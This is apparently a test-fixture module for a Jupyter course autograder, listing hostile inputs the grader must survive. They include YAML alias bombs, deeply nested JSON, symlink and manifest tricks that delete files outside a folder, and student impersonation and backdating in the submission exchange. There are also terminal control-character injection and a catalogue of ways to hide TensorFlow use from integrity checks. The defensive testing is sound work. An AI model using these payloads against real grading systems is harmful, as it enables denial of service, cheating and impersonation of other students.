        roster=canvas_roster, graded={long: "park03", "kimminji_1001_70001_03_softmax.ipynb": "kim01"})
    # 5000 attachments: the zip's directory was read again for every student's notebook.
    crowd = {f"s{i:03d}_{2000 + i}_{80000 + i}_03_softmax.ipynb": good for i in range(200)}
    cases["one-student-uploads-5000-files"] = IntakeCase(
        crowd | {f"parksora_1003_{90000 + k}_f{k}.txt": b"x" for k in range(5000)},
        "5000 attachments: the zip's directory re-read for every student's notebook (76 s at 20k)",
        graded={f: None for f in crowd}, seconds=3.0)
    return cases


# ---- notebooks that the grader's own process parses (repair.read_submission): each must come back
# as Unmatchable (that student graded 0 with the reason), quickly, within a small memory budget.

def _yaml_bomb(prefix: str) -> str:
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    lines += [f"{chr(98 + i)}: &{chr(98 + i)} [" + ",".join([f"*{chr(97 + i)}"] * 9) + "]" for i in range(8)]
    return "".join(f"{prefix}    {line}\n" for line in lines)


def parse_cases() -> dict[str, tuple[str, bytes]]:
    """{case: (file name, content)}: submissions whose parsing broke the whole class's run."""
    return {
        # json.loads raises RecursionError (not JSONDecodeError): it escaped read_submission
        "deeply-nested-json": ("03_softmax.ipynb", b'{"cells": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"),
        # YAML aliases in the jupytext header: 9^9 strings once jupytext writes the metadata (23 GB)
        "yaml-bomb-md": ("03_softmax.md", ("---\njupyter:\n  x:\n" + _yaml_bomb("") + "---\n\n```python\nx = 1\n```\n").encode()),
        "yaml-bomb-py": ("03_softmax.py", ("# ---\n# jupyter:\n#   x:\n" + _yaml_bomb("# ") + "# ---\n\n# %%\nx = 1\n").encode()),
        # 180 KB of empty cells: jupytext takes 10 s (a 100 MB file, hours) in the grader's process
        "many-cells-py": ("03_softmax.py", b"# %%\nx=1\n" * 20_000),
        # round 2: line ends jupytext splits on but a `\n` regex does not, a header after a blank line,
        # and cell markers of the other formats
        "yaml-bomb-py-cr": ("03_softmax.py", ("# ---\r# jupyter:\r#   x:\r" + _yaml_bomb("# ").replace("\n", "\r")
                                             + "# ---\r\r# %%\rx = 1\r").encode()),
        "yaml-bomb-md-u2028": ("03_softmax.md", ("---\u2028jupyter:\u2028  x:\u2028" + _yaml_bomb("").replace("\n", "\u2028")
                                                + "---\u2028\u2028```python\u2028x = 1\u2028```\u2028").encode()),
        "yaml-bomb-md-after-blank-line": ("03_softmax.md", ("\n---\njupyter:\n  x:\n" + _yaml_bomb("")
                                                           + "---\n\n```python\nx = 1\n```\n").encode()),
        "many-cells-py-light": ("03_softmax.py", b"x=1\n\n\n" * 20_000),
        "many-cells-py-plus": ("03_softmax.py", b"# +\nx=1\n# -\n" * 20_000),
        "many-cells-md-paragraphs": ("03_softmax.md", b"```python\nx=1\n```\n" + b"a\n\n\n" * 20_000),
        "one-cell-many-lines-py": ("03_softmax.py", b"# %%\n" + b"x=1\n" * 500_000),
    }


# ---- the publish command's adversaries (`python -m autograder publish DIR`): what could carry the
# instructor's content into the public student repository, or make a publish remove or write what is
# not its own. Each case is planted where the publish meets it, by tests/test_publish.py:
#   TREE      a staged student repository (a copy of one publish), then `publish_check.verify`
#   PACKAGE   this repository's utils in a git clone (tracked files added), then `publish.stage_package`
#   PREVIOUS  a folder holding `dir` (a previous publish, with .git) and `outside`, then `publish.replace`
#             of the folder `dest` names; nothing in `dir` or `outside` may change on a refusal
#   SOURCE    a copy of a source notebook, then `build.text_to_notebook`
# Paths are relative to that place; in a link, `{outside}` is the outside folder and `{repository}` this
# repository; in a list line, `{sha:PATH}` is the sha256 of the file PATH there.

TREE, PACKAGE, PREVIOUS, SOURCE = "tree", "package", "previous", "source"
PUBLISH_ASSIGNMENT = "02_backprop"


@dataclass
class PublishCase:
    where: str                    # TREE, PACKAGE, PREVIOUS or SOURCE
    what: str                     # the attack, and what it got through before
    refusal: str                  # a phrase the refusal must contain; "" where the publish goes on
    write: dict = None            # path -> text, written (folders made)
    append: dict = None           # path -> text appended
    links: dict = None            # path -> where the link points
    folders: tuple = ()           # folders made
    substitute: tuple = ()        # (path, regex, replacement): the first match replaced
    manifest: tuple = ()          # PREVIOUS: lines appended to dest's .published-files
    dest: str = "dir"             # PREVIOUS: the folder published to
    left_out: tuple = ()          # PACKAGE: files that must not be staged
    track: bool = False           # PACKAGE: what is planted is added to git (`git add`)
    absent: str = ""              # SOURCE: text the built notebook must not hold


def _doctest(code: str) -> str:
    return "".join(f">>> {line}\n" for line in code.splitlines() if line.strip())


def publish_cases(solution: str, short: str, hidden: str, reference: str) -> dict[str, PublishCase]:
    """`solution`: the code of one solution region (dedented); `short`: a solution statement of under 25
    characters; `hidden`, `reference`: the text of an autograder/hidden and an autograder/references
    module (their `backprop`)."""
    nb = f"release/{PUBLISH_ASSIGNMENT}/{PUBLISH_ASSIGNMENT}.ipynb"
    src = f"source/{PUBLISH_ASSIGNMENT}/{PUBLISH_ASSIGNMENT}.py"
    leaked = "statement(s) of a solution or hidden test"
    grader = "imports the grader"
    commented = "".join(f"    {line}  # as in the notes\n" for line in solution.splitlines())
    cases = {
        # C1: the line match took `>>> x = ...` for another line than `x = ...`
        "solution-in-a-doctest": PublishCase(TREE, "a solution as a docstring's doctest (C1)", leaked,
                                             write={"utils/shapes.py": f'"""Shape helpers.\n\n{_doctest(solution)}"""\n'}),
        # C2: a trailing comment on every line
        "solution-with-comments": PublishCase(TREE, "a solution with a comment after each line (C2)", leaked,
                                              write={"utils/notes.py": f"def helper(dout, cache, x, w, b):\n{commented}"}),
        "solution-reformatted": PublishCase(TREE, "a solution with its spacing changed", leaked,
                                            write={"utils/notes.py": solution.replace(" = ", "=").replace(", ", ",")
                                                   .replace("(", "( ")}),
        "solution-in-notebook-markdown": PublishCase(TREE, "a short solution statement as inline code in a "
                                                     "release notebook's markdown", leaked,
                                                     substitute=(nb, r'("source": \[\s*")',
                                                                 r'\1Hint: `' + short.replace("\\", "\\\\")
                                                                 + r'`\\n", "')),
        # C1: lines under 25 characters were never compared
        "short-solution-line": PublishCase(TREE, "a solution statement under 25 characters", leaked,
                                           append={"utils/plots.py": f"\n\ndef _helper(dout, x):\n    {short}\n"}),
        "short-solution-line-commented": PublishCase(TREE, "a short solution statement commented out", leaked,
                                                     append={"utils/plots.py": f"\n# {short}\n"}),
        # C2: the marker check looked at .ipynb and .md only, and only in nbgrader's spelling
        "marker-in-utils": PublishCase(TREE, "nbgrader's marker in a utils module, spelt another way", "nbgrader marker",
                                       append={"utils/plots.py": "\n# ### Begin Solution\n"}),
        # C3: a hidden check or reference with a comment changed: the digest differed
        "hidden-check-copied": PublishCase(TREE, "a hidden check module copied into utils, a comment added (C3)",
                                           "autograder/hidden/backprop.py",
                                           write={"utils/checks/backprop_extra.py": "# extra cases\n" + hidden}),
        "reference-copied": PublishCase(TREE, "a reference module copied into utils, imports made relative (C3)",
                                        "autograder/references/backprop.py",
                                        write={"utils/checks/backprop_ref.py": "# the references\n" + reference.replace(
                                            "from utils.", "from ..").replace("from . import", "from .core import")}),
        # C4: the import regex saw `import autograder` only at a line's start
        "grader-import-after-another": PublishCase(TREE, "`import numpy as np, autograder.hidden` (C4)", grader,
                                                   write={"utils/sneaky.py": "import numpy as np, autograder.hidden\n"}),
        "grader-import-by-name": PublishCase(TREE, "importlib.import_module(\"autograder.hidden\") (C4)", grader,
                                             write={"utils/sneaky.py": "import importlib\n_h = importlib.import_module("
                                                                       "\"autograder.hidden\")\n"}),
        "grader-import-dunder": PublishCase(TREE, "__import__(\"autograder.references\") (C4)", grader,
                                            write={"utils/sneaky.py": "_r = __import__('autograder.references')\n"}),
        "grader-import-relative": PublishCase(TREE, "a relative import out of utils, to the repository's root", grader,
                                              write={"utils/checks/sneaky.py": "from ...autograder import hidden\n"}),
        # C7: the stored values were published unchecked
        "expected-extra-key": PublishCase(TREE, "a stored-values file with a key of its own (C7)",
                                          "is not a reference utils declares",
                                          substitute=("utils/checks/expected/backprop.json", r"\A\{",
                                                      '{"hidden_cases": {"seed 1234": [1.0, 2.0]},')),
        "expected-extra-file": PublishCase(TREE, "a stored-values file no reference uses (C7)",
                                           "is not a reference utils declares",
                                           write={"utils/checks/expected/hidden_cases.json": '{"CANARY": {"dx": 1}}\n'}),
        "link-to-a-hidden-check": PublishCase(TREE, "a link in utils to a hidden check (C5)", "not a kind of file",
                                              links={"utils/link_hidden.py": "{repository}/autograder/hidden/backprop.py"}),
        # N1: a source cell header's `key="..."` reached the release notebook as cell metadata
        "notebook-cell-metadata": PublishCase(TREE, "a release notebook cell with metadata of its own (N1)",
                                              "metadata a release notebook does not carry",
                                              substitute=(nb, r'"metadata": \{\}', '"metadata": {"instructor_note": '
                                                          '"reference answer: out = np.maximum(x, 0.0)"}')),
        "notebook-outputs": PublishCase(TREE, "a release notebook with an output", "outputs",
                                        substitute=(nb, r'"outputs": \[\]', '"outputs": [{"name": "stdout", '
                                                    '"output_type": "stream", "text": "dw = x_rows.T @ dout"}]')),
        "notebook-metadata": PublishCase(TREE, "a release notebook with notebook metadata of its own",
                                         "notebook metadata", substitute=(nb, r'"language_info": \{',
                                                                          '"instructor": "answers", "language_info": {')),
        "marker-variant-in-a-notebook": PublishCase(TREE, "`### Begin Hidden Tests` in a release notebook (N2)",
                                                    "nbgrader marker", substitute=(nb, r'("source": \[\s*")',
                                                                                   r'\1### Begin Hidden Tests\\n", "')),
        "pyproject-url": PublishCase(TREE, "a dependency from a URL, which pip installs over Colab's",
                                     "installs from a URL", substitute=("pyproject.toml", r'"numpy>=[^"]*"',
                                                                        '"numpy @ https://example.org/numpy.whl"')),
        "pyproject-pin": PublishCase(TREE, "a pinned dependency", "more than a lower bound",
                                     substitute=("pyproject.toml", r'"numpy>=', '"numpy==')),
        "pyproject-find": PublishCase(TREE, "packages found, not listed", "packages must list",
                                      substitute=("pyproject.toml", r'packages = \[[^\]]*\]',
                                                  '[tool.setuptools.packages.find]\nwhere = ["."]')),
        # C9, C6b: every file under utils was copied, untracked and ignored ones too, a folder `x.py` crashed it
        "untracked-module": PublishCase(PACKAGE, "an untracked utils/scratch_solutions.py (C9)", "",
                                        write={"utils/scratch_solutions.py": "def relu(x):\n    return x\n"},
                                        left_out=("utils/scratch_solutions.py",)),
        "jupyter-checkpoint": PublishCase(PACKAGE, "utils/.ipynb_checkpoints/*-checkpoint.py, ignored (C9)", "",
                                          write={"utils/.ipynb_checkpoints/scratch-checkpoint.py": "x = 1\n"},
                                          left_out=("utils/.ipynb_checkpoints/scratch-checkpoint.py",)),
        "untracked-expected": PublishCase(PACKAGE, "an untracked stored-values file (C7)", "",
                                          write={"utils/checks/expected/hidden_cases.json": "{}\n"},
                                          left_out=("utils/checks/expected/hidden_cases.json",)),
        "folder-named-like-a-module": PublishCase(PACKAGE, "a folder utils/foo.py (C6b: IsADirectoryError)", "",
                                                  folders=("utils/foo.py",), left_out=("utils/foo.py",)),
        "tracked-link": PublishCase(PACKAGE, "a link to a hidden check, committed in utils (C5)", "is a link",
                                    links={"utils/link_hidden.py": "{repository}/autograder/hidden/backprop.py"},
                                    track=True),
        # D7: a link in DIR, and the list naming files through it: files outside DIR were deleted
        "manifest-through-a-link": PublishCase(
            PREVIOUS, "utils/x.py a link to a folder outside DIR, the list naming files through it (D7)", "is a link",
            links={"dir/utils/x.py": "{outside}"},
            manifest=("{sha:outside/important.py}  utils/x.py/important.py",
                      "{sha:outside/sub/deep.py}  utils/x.py/sub/deep.py", "{sha:outside/important.py}  utils/x.py")),
        "manifest-names-a-folder": PublishCase(PREVIOUS, "the list naming a folder", "a folder",
                                               folders=("dir/utils/gone.py",),
                                               manifest=("0" * 64 + "  utils/gone.py",)),
        "manifest-escapes-dir": PublishCase(PREVIOUS, "the list naming ../outside/important.py", "edited",
                                            manifest=("{sha:outside/important.py}  ../outside/important.py",)),
        # D11: a line added to the list made the publish delete a contributor's file
        "manifest-names-a-contributor-file": PublishCase(
            PREVIOUS, "utils/contrib.py, someone's, added to the list (D11)", "edited",
            write={"dir/utils/contrib.py": "# mine\n"}, manifest=("utils/contrib.py",)),
        "manifest-names-a-contributor-file-with-a-digest": PublishCase(
            PREVIOUS, "utils/contrib.py added to the list with a digest, not its own (D11)", "changed since",
            write={"dir/utils/contrib.py": "# mine\n"}, manifest=("{sha:dir/utils/plots.py}  utils/contrib.py",)),
        "published-file-changed": PublishCase(PREVIOUS, "a file the last publish wrote, changed since", "changed since",
                                              append={"dir/utils/plots.py": "\n# my fix\n"}),
        "foreign-link": PublishCase(PREVIOUS, "a link to a folder outside, not in the list", "did not write",
                                    links={"dir/release/99_extra": "{outside}"}),
        # D5, D10
        "dir-is-a-worktree": PublishCase(PREVIOUS, "DIR a git worktree: `.git` a file (D5: refused)", "",
                                         write={"fresh/.git": "gitdir: /elsewhere/.git/worktrees/public\n"},
                                         dest="fresh"),
        "dir-under-a-file": PublishCase(PREVIOUS, "DIR under a regular file (D10: failed after the build)",
                                        "is not a folder", write={"afile": "x\n"}, dest="afile/public"),
        # N1-N3 in the build: the release took a cell header's metadata, and a marker nbgrader did not know
        "source-cell-metadata": PublishCase(SOURCE, "a source cell header with `instructor_note=\"...\"` (N1)", "",
                                            substitute=(src, r'(?m)^(# %% nbgrader=\{[^\n]*\})$',
                                                        r'\1 instructor_note="CANARY out = np.maximum(x, 0.0)"'),
                                            absent="CANARY"),
        "hidden-marker-in-title-case": PublishCase(SOURCE, "`### Begin Hidden Tests` (N2)", "is not nbgrader's marker",
                                                   substitute=(src, r"### BEGIN HIDDEN TESTS", "### Begin Hidden Tests")),
        "hidden-marker-singular": PublishCase(SOURCE, "`### BEGIN HIDDEN TEST` (N2b)", "is not nbgrader's marker",
                                              substitute=(src, r"### BEGIN HIDDEN TESTS", "### BEGIN HIDDEN TEST")),
        "solution-marker-in-title-case": PublishCase(SOURCE, "`### Begin Solution` (N3)", "is not nbgrader's marker",
                                                     substitute=(src, r"### BEGIN SOLUTION", "### Begin Solution")),
    }
    return cases


# ---- the similarity report (autograder/similarity.py) ----------------------------------------------
# What a red team's students handed in to crash or stall the report for the whole class, or to garble
# what the instructor reads. Each is one student's `submitted/<id>/<assignment>/` in a class with honest
# students; tests/test_similarity.py checks the report is still written, quickly, with the honest ones.
# name -> (student id, {answer cell: text} or a special file: "fifo", "link-to-dev-zero", "no-source")
SIMILARITY_CASES = {
    "deep-unary-chain": ("deep-unary", {"relu_forward": "out = " + "-" * 10_000 + "1"}),        # MemoryError
    "long-plus-chain": ("long-plus", {"affine_forward": "out = " + "+".join(["x"] * 5000)}),    # RecursionError
    "one-long-line": ("long-line", {"relu_forward": "out = [" + ", ".join(["x"] * 6000) + "]"}),  # was quadratic
    "unparsable-repeats": ("repeats", {"relu_forward": "torch\n" * 40_000 + "!!!"}),            # was quadratic
    "lone-surrogate-in-flagged-answer": ("surrogate", {"numerical_gradient":
                                                        "import tensorflow as tf\n# \ud800\ngrad = tf.zeros(1)"}),
    "bidi-override-id": ("w\u202eevil", {}),
    "fifo-notebook": ("fifo", "fifo"),                                                          # hung
    "link-to-dev-zero": ("zero-link", "link-to-dev-zero"),                                      # OOM
    "cell-without-source": ("no-source", "no-source"),                                          # AttributeError
    # autodiff reached by a computed name: no module is named in the answer (was not flagged)
    "computed-import": ("computed", {"numerical_gradient": "tf = __import__('tensor' + 'flow')\n"
                                                           "grad = getattr(tf, 'Gradient' + 'Tape')"}),
}


# Answers to numpy exercises that use TensorFlow autodiff, Keras or the course's autodiff and
# gradient-checking helpers, each of which a red team's student hid from the integrity findings
# (similarity.uses, analyse) as they were; each is now named. Each reaches the framework at runtime
# (checked by the red team in a kernel). name -> (assignment, {answer cell: source}); the finding
# must be on the last cell named. Not caught: a helper in a code cell the student added (answers
# are read from answer cells only).
_TAPE = "\n    with tf.GradientTape() as tape:\n        out = x * x\n    return tape.gradient(out, x)\n"
INTEGRITY_EVASIONS = {
    # course modules that import TensorFlow themselves, reached by a path that names no framework
    "utils-learner-tf": ("02_backprop", {"affine_backward": "from utils.learner import tf\ndef affine_backward(dout, cache):\n    x = cache" + _TAPE}),
    "utils-learner-star": ("02_backprop", {"affine_backward": "from utils.learner import *\ndef affine_backward(dout, cache):\n    x = cache" + _TAPE}),
    "a-checks-private-tf": ("02_backprop", {"affine_backward": "from utils.checks.backprop import _tf\ndef affine_backward(dout, cache):\n    tf = _tf()" + _TAPE}),
    "utils-checks-importlib": ("02_backprop", {"affine_backward": "from utils.checks import importlib as il\ndef affine_backward(dout, cache):\n    tf = il.import_module('tensor' + 'flow')" + _TAPE}),
    # through the insides of objects the notebook already has
    "function-globals": ("02_backprop", {"affine_backward": "def affine_backward(dout, cache):\n    tf = check.__globals__['importlib'].import_module('tensor' + 'flow')" + _TAPE}),
    "module-builtins": ("03_softmax", {"cross_entropy_loss": "def cross_entropy_loss(scores, y):\n    tf = np.__builtins__['__import__']('tensor' + 'flow')" + _TAPE}),
    "builtin-self": ("02_backprop", {"affine_backward": "def affine_backward(dout, cache):\n    tf = print.__self__.__import__('tensor' + 'flow')" + _TAPE}),
    "os-sys-modules": ("02_backprop", {"affine_backward": "import os\ndef affine_backward(dout, cache):\n    tf = os.sys.modules['importlib'].import_module('tensor' + 'flow')" + _TAPE}),
    "from-os-import-sys": ("02_backprop", {"affine_backward": "from os import sys\ndef affine_backward(dout, cache):\n    tf = sys.modules['importlib'].import_module('tensor' + 'flow')" + _TAPE}),
    "runpy-importlib": ("02_backprop", {"affine_backward": "import runpy\ndef affine_backward(dout, cache):\n    tf = runpy.importlib.import_module('tensor' + 'flow')" + _TAPE}),
    "subclasses-walk": ("02_backprop", {"affine_backward": "def affine_backward(dout, cache):\n    g = next(c for c in object.__subclasses__() if c.__name__ == '_wrap_close').__init__.__globals__\n    tf = g['sys'].modules['importlib'].import_module('tensor' + 'flow')" + _TAPE}),
    "getattr-computed": ("06_optimizers", {"adam": "def adam(w, dw, config=None):\n    keras = getattr(sys, 'mod' + 'ules')['ker' + 'as']\n    return keras.optimizers.Adam(), config\n"}),
    "resolve-name-colon": ("02_backprop", {"affine_backward": "import pkgutil\ndef affine_backward(dout, cache):\n    tf = pkgutil.resolve_name('tensorflow:')" + _TAPE}),
    "resolve-name-helper": ("02_backprop", {"relu_backward": "import pkgutil\ndef relu_backward(dout, cache):\n    tvg = pkgutil.resolve_name('utils.autodiff:tf_value_and_grads')\n    return tvg(lambda t: (t + abs(t)) / 2, [cache], upstream=dout)[1][0]\n"}),
    "globals-lookup": ("02_backprop", {"affine_backward": "def affine_backward(dout, cache):\n    tvg = globals()['tf_value_and_grads']\n    return tvg(lambda a: a, [cache], upstream=dout)[1]\n"}),
    "compile-function": ("02_backprop", {"affine_backward": "import types\ndef affine_backward(dout, cache):\n    ns = {}\n    types.FunctionType(compile('import tensor' + 'flow as tf', '<c>', 'exec'), ns)()\n    tf = ns['tf']" + _TAPE}),
    "attrgetter": ("02_backprop", {"affine_backward": "import operator\nimport utils\ndef affine_backward(dout, cache):\n    tvg = operator.attrgetter('auto' + 'diff.tf_value_and_grads')(utils)\n    return tvg(lambda a: a, [cache], upstream=dout)[1]\n"}),
    # an import that never runs rebinds the notebook's name in the report's reading only
    "dead-import-rebinds-tf": ("07_cnn", {"conv_backward_naive": "if False:\n    import numpy as tf\ndef conv_backward_naive(dout, cache):\n    x = cache[0]" + _TAPE}),
    "dead-import-in-another-cell": ("07_cnn", {"conv_output_size": "if False:\n    from numpy import linalg as tf\ndef conv_output_size(n, f, pad=0, stride=1):\n    return (n + 2 * pad - f) // stride + 1\n",
                                               "conv_backward_naive": "def conv_backward_naive(dout, cache):\n    x = cache[0]" + _TAPE}),
    "dead-import-rebinds-helper": ("02_backprop", {"affine_backward": "if 0:\n    from numpy import dot as tf_value_and_grads\ndef affine_backward(dout, cache):\n    return tf_value_and_grads(lambda a: a, [cache], upstream=dout)[1]\n"}),
    # lines that, with names renamed, read like a line of the template (which is never flagged)
    "like-a-template-line": ("02_backprop", {"relu_backward": "def relu_backward(dout, cache):\n    x = cache\n    engine = tf_value_and_grads\n    return engine(lambda t: (t + abs(t)) / 2, [x], upstream=dout)[1][0]\n"}),
    "like-the-template-return": ("02_backprop", {"numerical_gradient": "def numerical_gradient(f, x, h=1e-5):\n    def engine():\n        return eval_numerical_gradient_array\n    return engine()(f, x, np.float64(1.0), h=h)\n"}),
    "import-like-a-template-line": ("02_backprop", {"sigmoid_backward": "def sigmoid_backward(dout, cache):\n    out = cache\n    imp = __import__\n    tf = imp('tensor' + 'flow')" + _TAPE}),
    # U+2028 in a comment: one line for Python, eight for str.splitlines, so the lines the report
    # looked up were the template's
    "line-separator": ("03_softmax", {"cross_entropy_loss": "def cross_entropy_loss(scores, y):  # mean NLL" + "\u2028    raise NotImplementedError()" * 7
                                      + "\n    import tensorflow as tf" + _TAPE}),
    # IPython magics made the cell unparsable, and the text search knew no helper names
    "cell-magic": ("02_backprop", {"affine_backward": "%%capture\ndef affine_backward(dout, cache):\n    return tf_value_and_grads(lambda a: a, [cache], upstream=dout)[1]\n"}),
    "line-magic-fullwidth": ("07_cnn", {"conv_backward_naive": "%config Completer.use_jedi = False\ndef conv_backward_naive(dout, cache):\n    x = cache[0]\n    with tf.\uff27radientTape() as tape:\n        out = x * x\n    return tape.gradient(out, x)\n"}),
    # a helper in the answer to an exercise that may use Keras, called from a numpy one
    "helper-in-a-keras-cell": ("07_cnn", {"build_lenet": "def build_lenet(filters=(6, 16), units=(120, 84), dropout=0.0):\n    return keras.Sequential([keras.Input((28, 28, 1))])\n\ndef _grads(x):" + _TAPE,
                                         "conv_backward_naive": "def conv_backward_naive(dout, cache):\n    return _grads(cache[0])\n"}),
}

# Honest answers the findings must leave alone (the red team's controls)
HONEST_INTEGRITY = {
    "nditer": ("02_backprop", {"numerical_gradient": "def numerical_gradient(f, x, h=1e-5):\n    grad = np.zeros(x.shape)\n    it = np.nditer(x, flags=['multi_index'], op_flags=['readwrite'])\n    while not it.finished:\n        ix = it.multi_index\n        old = x[ix]\n        x[ix] = old + h\n        fp = f(x)\n        x[ix] = old - h\n        fm = f(x)\n        x[ix] = old\n        grad[ix] = (fp - fm) / (2 * h)\n        it.iternext()\n    return grad\n"}),
    "einsum": ("02_backprop", {"affine_backward": "def affine_backward(dout, cache):\n    x, w, b = cache\n    dx = np.einsum('nm,dm->nd', dout, w).reshape(x.shape)\n    dw = np.einsum('nd,nm->dm', x.reshape(x.shape[0], -1), dout)\n    return dx, dw, dout.sum(axis=0)\n"}),
    "magic-and-comment": ("02_backprop", {"relu_backward": "%%time\n# not autograd, not keras: by hand\ndef relu_backward(dout, cache):\n    return dout * (cache > 0)\n"}),
    "unfinished": ("02_backprop", {"sigmoid_backward": "def sigmoid_backward(dout, cache):\n    out = cache\n    # TODO: gradcheck says I am off\n    dx = dout * out * (1 - out\n    return dx\n"}),
    "docstring-names-keras": ("03_softmax", {"cross_entropy_loss": "def cross_entropy_loss(scores, y):\n    \"\"\"keras.ops.softmax does this too; here by hand.\"\"\"\n    backend = 'torch'  # a label\n    shifted = scores - scores.max(axis=1, keepdims=True)\n    logp = shifted - np.log(np.exp(shifted).sum(axis=1, keepdims=True))\n    return -logp[np.arange(len(y)), y].mean()\n"}),
    "getattr-on-self": ("06_optimizers", {"adam": "class _State:\n    def get(self, name, default=None):\n        return getattr(self, name, default)\n\ndef adam(w, dw, config=None):\n    config = {} if config is None else config\n    exec_time = 0.0\n    return w - 1e-3 * dw, config\n"}),
}


#: A dishonest student on a JupyterHub (tests/test_exchange_attacks.py, which runs each as the user
#: `mal` beside an honest and a blank student): Python run with mal's uid, where `inbound` and
#: `course` are the exchange's inbound and the instructor's course folder, and `put(name)` copies
#: mal's own submission into the inbound under that folder name. Each worked against grading what
#: `nbgrader collect` copies; intake of the inbound itself (intake.INBOUND) holds against all.
EXCHANGE_ATTACKS = {
    # an empty user name: collect writes `collected//A`, a folder one level up, which made intake
    # read the whole class as a folder per student (every secret and time dropped)
    "no-name": 'put("+01_perceptron+2026-01-01 00:00:00.000000 UTC+x")',
    # another student's name with a time that wins every collect: graded as theirs, with mal's secret
    "another-name": 'put("stu01+01_perceptron+2099-01-01 00:00:00.000000 UTC+x")',
    # a name that safe_id folds onto another student's id: the whole class stopped (Collision)
    "folded-name": 'put("stu02.+01_perceptron+2026-01-01 00:00:00.000000 UTC+x")',
    # links that collect follows with the instructor's rights: the source notebook graded as mal's,
    # stu01's secret shared (so dropped), a `stu02+...` folder that is the instructor's source folder
    "links": """d = put("mal+01_perceptron+2026-12-31 00:00:00.000000 UTC+x")
for f, target in (("01_perceptron.ipynb", "/source/01_perceptron/01_perceptron.ipynb"),
                  ("submission_secret.txt", "/collected/stu01/01_perceptron/submission_secret.txt")):
    os.remove(os.path.join(d, f))
    os.symlink(course + target, os.path.join(d, f))
os.symlink(course + "/source/01_perceptron", os.path.join(inbound, "stu02+01_perceptron+2099-01-01 00:00:00.000000 UTC+y"))
""",
    # a timestamp.txt from before the deadline in mal's own inbound folder
    "backdated": """d = put("mal+01_perceptron+2027-03-20 00:00:00.000000 UTC+x")   # (the folder's name is mal's to choose too)
with open(os.path.join(d, "timestamp.txt"), "w") as f:
    f.write("2000-01-01 00:00:00.000000 UTC")
""",
    # (a second red team's, against the inbound itself) names the roster reads as stu01's (case,
    # email) on a folder of mal's: the class stopped (Collision), or mal graded as stu01
    "roster-case": 'put("STU01+01_perceptron+2099-01-01 00:00:00.000000 UTC+x")',
    "roster-email": 'put("stu01@uni.example+01_perceptron+2099-01-01 00:00:00.000000 UTC+x")',
    # a roster student with no account on the Hub yet: mal's folder taken as theirs
    "no-account": 'put("stu03+01_perceptron+2099-01-01 00:00:00.000000 UTC+x")',
    # a folder name that rewrites the instructor's terminal (newline, erase line, cursor up)
    "control-characters": """d = os.fsencode(os.path.join(inbound, "x\\n\\x1b[2K\\x1b[1A  graded stu01+01_perceptron+t+x"))
os.mkdir(d)
open(d + b"/01_perceptron.ipynb", "w").write("{}")
""",
    # (and mal rewriting their notebook between intake's listing and its read, to keep the earlier
    # time: tests/test_exchange_attacks.py plays the race by hand)
}
